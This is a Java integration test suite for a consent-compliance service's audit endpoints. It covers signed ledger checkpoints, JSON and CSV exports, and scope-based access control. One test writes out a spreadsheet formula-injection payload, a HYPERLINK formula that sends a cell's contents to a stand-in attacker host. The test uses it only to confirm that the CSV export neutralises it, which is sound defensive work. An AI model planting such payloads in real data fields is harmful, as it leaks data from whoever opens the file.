package dev.kairos.compliance;

import static dev.kairos.compliance.ConsentRequests.aGrant;
import static dev.kairos.compliance.ConsentRequests.aWithdrawal;
import static org.assertj.core.api.Assertions.assertThat;

import dev.kairos.compliance.ledger.Checkpoints;
import dev.kairos.ledger.verifier.Checkpoint;
import dev.kairos.ledger.verifier.Ed25519Keys;
import dev.kairos.platform.testing.ServiceTestProperties;
import dev.kairos.platform.testing.TestInfrastructure;
import dev.kairos.platform.testing.TopicReader;
import dev.kairos.platform.topics.TopicsProperties;
import dev.kairos.proto.compliance.LedgerCheckpoint;
import dev.kairos.proto.serde.KairosSerdes;
import java.security.PublicKey;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;

/** What auditors read (the checkpoints on the ledger topic too), and that the audit scope reads that and nothing else. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"kairos.compliance.expiry-interval=PT1H", "kairos.compliance.controller=Example SAS"})
@Import(MovableClock.Configuration.class)
class AuditIT {

    @DynamicPropertySource
    static void infrastructure(DynamicPropertyRegistry registry) {
        ServiceTestProperties.register(registry, "compliance");
    }

    @LocalServerPort
    int port;

    @Autowired
    MovableClock clock;

    @Autowired
    Checkpoints checkpoints;

    @Autowired
    TopicsProperties topics;

    @Value("${kairos.compliance.checkpoints.private-key}")
    String checkpointKey;

    Api api;

    @BeforeEach
    void client() {
        api = new Api(port);
    }

    @Test
    void aCheckpointIsPublishedOnTheLedgerTopicAndVerifiesWithTheCheckpointKey() {
        Api.Response granted = api.post("/api/v1/consents", aGrant("c-" + UUID.randomUUID()).json(), "consents:write");
        assertThat(granted.status()).as(granted.body()).isEqualTo(201);

        checkpoints.checkpointHead();

        // The key the operator handed the auditor, not one the service serves.
        PublicKey key = Ed25519Keys.publicKeyOf(Ed25519Keys.privateKey(checkpointKey));
        try (var ledger = new TopicReader(TestInfrastructure.kafka().bootstrapServers(), topics.name("consent-ledger"))) {
            List<LedgerCheckpoint> published = ledger.awaitValues("#ledger-checkpoint",
                    KairosSerdes.ledgerCheckpoint()::decode, c -> !c.isEmpty());
            LedgerCheckpoint last = published.get(published.size() - 1);
            assertThat(last.getSequence()).isEqualTo(granted.json().get("sequence").asLong());
            assertThat(last.getHeadHash()).isEqualTo(granted.json().get("hash").asString());
            Checkpoint checkpoint = new Checkpoint(last.getSequence(), last.getHeadHash(), last.getCheckpointedAt(),
                    last.getSignature());
            assertThat(checkpoint.isSignedBy(key)).isTrue();
            assertThat(new Checkpoint(last.getSequence() + 1, last.getHeadHash(), last.getCheckpointedAt(),
                    last.getSignature()).isSignedBy(key)).as("a checkpoint altered on its way").isFalse();
        }
    }

    @Test
    void theLedgerIsExportedByRecordingTimeAsJsonAndAsCsv() {
        String customer = "c-" + UUID.randomUUID();
        clock.set(Instant.parse("2026-04-01T10:00:00Z"));
        api.post("/api/v1/consents", aGrant(customer).json(), "consents:write");
        clock.set(Instant.parse("2026-04-02T10:00:00Z"));
        api.post("/api/v1/consents", aWithdrawal(customer).json(), "consents:write");
        clock.set(Instant.parse("2026-04-03T10:00:00Z"));
        api.post("/api/v1/consents", aGrant(customer).mail("12 rue des Lilas, 75011 Paris").json(),
                "consents:write");
        clock.set(Instant.parse("2026-04-10T00:00:00Z"));

        Api.Response json = api.get("/api/v1/audit/ledger?from=2026-04-01T10:00:00Z&to=2026-04-03T10:00:00Z",
                "application/json", "audit:read");

        assertThat(json.status()).as(json.body()).isEqualTo(200);
        List<JsonNode> entries = json.json().get("entries").valueStream()
                .filter(e -> e.get("customerId").asString().equals(customer)).toList();
        assertThat(entries).extracting(e -> e.get("type").asString()).containsExactly("GRANTED", "WITHDRAWN");
        assertThat(entries.get(0).get("address").asString()).isEqualTo("+33612345678");
        assertThat(entries.get(0).get("evidence").get("controller").asString()).isEqualTo("Example SAS");
        assertThat(entries.get(0).get("recordedAt").asString()).isEqualTo("2026-04-01T10:00:00Z");
        assertThat(entries.get(1).get("previousHash").asString()).isEqualTo(entries.get(0).get("hash").asString());

        Api.Response csv = api.get("/api/v1/audit/ledger?from=2026-04-01T10:00:00Z", "text/csv", "audit:read");

        assertThat(csv.status()).as(csv.body()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        List<String> lines = csv.body().lines().toList();
        assertThat(lines.get(0)).startsWith("sequence,entryId,customerId,type,channel,purpose,basis,jurisdiction,source,");
        List<String> mine = lines.stream().filter(l -> l.contains(customer)).toList();
        assertThat(mine).hasSize(3);
        assertThat(mine.get(0)).contains(",GRANTED,SMS,promotions,OPT_IN,FR,WEB_FORM,2026-01-05T10:15:30Z,2026-04-01T10:00:00Z,2029-01-05T10:15:30Z,'+33612345678,");
        assertThat(mine.get(2)).contains(",GRANTED,MAIL,").contains(",\"12 RUE DES LILAS, 75011 PARIS\",");
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
        String customer = "c-" + UUID.randomUUID();
        clock.set(Instant.parse("2026-05-01T10:00:00Z"));
        String attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        assertThat(api.post("/api/v1/consents", aGrant(customer).userAgent(attack).json(), "consents:write").status())
                .isEqualTo(201);
        clock.set(Instant.parse("2026-05-02T00:00:00Z"));

        Api.Response csv = api.get("/api/v1/audit/ledger?from=2026-05-01T10:00:00Z", "text/csv", "audit:read");

        String row = csv.body().lines().filter(l -> l.contains(customer)).findFirst().orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",")
                .contains(",'+33612345678,").doesNotContain(",=").doesNotContain(",\"=");
        assertThat(api.get("/api/v1/audit/ledger?from=2026-05-01T10:00:00Z", "application/json", "audit:read").json()
                .get("entries").valueStream().filter(e -> e.get("customerId").asString().equals(customer)).findFirst()
                .orElseThrow().get("evidence").get("userAgent").asString())
                .as("the JSON export keeps the value as recorded").isEqualTo(attack);
    }

    @Test
    void aRangeThatIsNotOneIsRefusedNamingTheField() {
        Api.Response response = api.get("/api/v1/audit/ledger?from=2026-04-02T00:00:00Z&to=2026-04-01T00:00:00Z",
                "application/json", "audit:read");

        assertThat(response.status()).isEqualTo(400);
        assertThat(response.json().get("errors").get(0).get("field").asString()).isEqualTo("to");
        assertThat(api.get("/api/v1/audit/ledger?from=yesterday", "application/json", "audit:read").status()).isEqualTo(400);
    }

    @Test
    void theRecordOfProcessingIsServedAsJsonAndAsMarkdown() {
        Api.Response json = api.get("/api/v1/audit/record-of-processing", "application/json", "audit:read");

        assertThat(json.status()).as(json.body()).isEqualTo(200);
        JsonNode document = json.json();
        assertThat(document.get("controller").get("name").asString()).isEqualTo("Example SAS");
        JsonNode consent = document.get("processingActivities").get(0);
        for (String field : List.of("purposes", "dataSubjects", "dataCategories", "recipients", "transfers", "retention",
                "securityMeasures")) {
            assertThat(consent.has(field)).as(field).isTrue();
        }

        Api.Response markdown = api.get("/api/v1/audit/record-of-processing", "text/markdown", "audit:read");

        assertThat(markdown.status()).isEqualTo(200);
        assertThat(markdown.contentType()).startsWith("text/markdown");
        assertThat(markdown.body()).startsWith("# Record of processing activities")
                .contains("**Controller:** Example SAS").contains("### Data categories").contains("### Retention")
                .contains("- US telemarketing consent records: 5 years");
    }

    @Test
    void theAuditScopeReadsAuditsAndNothingElse() {
        assertThat(api.get("/api/v1/audit/ledger", "application/json", "audit:read").status()).isEqualTo(200);
        assertThat(api.get("/api/v1/audit/ledger/verification", "audit:read").status()).isEqualTo(200);
        assertThat(api.get("/api/v1/audit/record-of-processing", "application/json", "audit:read").status()).isEqualTo(200);

        assertThat(api.post("/api/v1/consents", aGrant("c-1").json(), "audit:read").status()).isEqualTo(403);
        assertThat(api.post("/api/v1/activities", "{}", "audit:read").status()).isEqualTo(403);
        assertThat(api.get("/api/v1/customers/c-1/consents", "audit:read").status()).isEqualTo(403);
        assertThat(api.get("/api/v1/customers/c-1/consents/history", "audit:read").status()).isEqualTo(403);
    }

    @Test
    void consentScopesReachNoAuditAndReadingDoesNotWrite() {
        for (String scope : List.of("consents:read", "consents:write")) {
            assertThat(api.get("/api/v1/audit/ledger", "application/json", scope).status()).as(scope).isEqualTo(403);
            assertThat(api.get("/api/v1/audit/ledger/verification", scope).status()).as(scope).isEqualTo(403);
            assertThat(api.get("/api/v1/audit/record-of-processing", "application/json", scope).status()).as(scope)
                    .isEqualTo(403);
        }
        assertThat(api.post("/api/v1/consents", aGrant("c-1").json(), "consents:read").status()).isEqualTo(403);
        assertThat(api.post("/api/v1/activities", "{}", "consents:read").status()).isEqualTo(403);
        assertThat(api.get("/api/v1/customers/c-1/consents/history", "consents:write").status()).isEqualTo(403);
        assertThat(api.get("/api/v1/customers/c-1/consents/history", "consents:read").status()).isEqualTo(200);
    }
}
